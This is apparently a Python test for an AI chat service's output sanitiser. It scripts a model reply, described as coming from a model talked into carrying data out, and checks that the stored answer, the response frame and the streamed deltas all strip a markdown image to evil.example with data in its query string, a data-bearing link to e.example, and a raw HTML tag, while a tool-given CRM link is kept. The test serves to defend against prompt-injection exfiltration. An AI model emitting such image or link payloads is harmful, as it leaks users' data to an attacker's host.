"""A whole turn with a model that was talked into carrying data out: every copy of its text is neutralised."""

from typing import Any

from shared.flow import history

SAID = "https://crm.example.com/reports?id=7"


async def test_deltas_response_and_stored_answer_are_the_same_guarded_text(room: Any, rounds: Any) -> None:
    """An address that a tool gave stays; one that carries data out, an image and a tag do not."""
    room.answers("sfdc/pipeline", f'{{"total": 7, "link": "{SAID}"}}')
    room.scripted(
        rounds.asks_for("sfdc__pipeline", first=f"[before]({SAID}) "),
        rounds.says("See [the ", f"report]({SAID}) and ![p](https://evil.example/p.png", "?d=7) [x](htt", "ps://e.example/?d=7)<b>"),
    )  # fmt: skip

    await room.ask()
    await room.run()

    stored = await history.messages(room.services, rounds.SAM, rounds.SESSION, after_seq=0, before_seq=None, limit=9)
    content = stored.messages[1].content
    assert content == f"before (crm.example.com) \n\nSee [the report]({SAID}) and p x (e.example)&lt;b>"
    assert room.frames("response")[0].content == content
    last = max(frame.attempt for frame in room.frames("response.delta"))
    assert "".join(frame.text for frame in room.frames("response.delta") if frame.attempt == last) == content
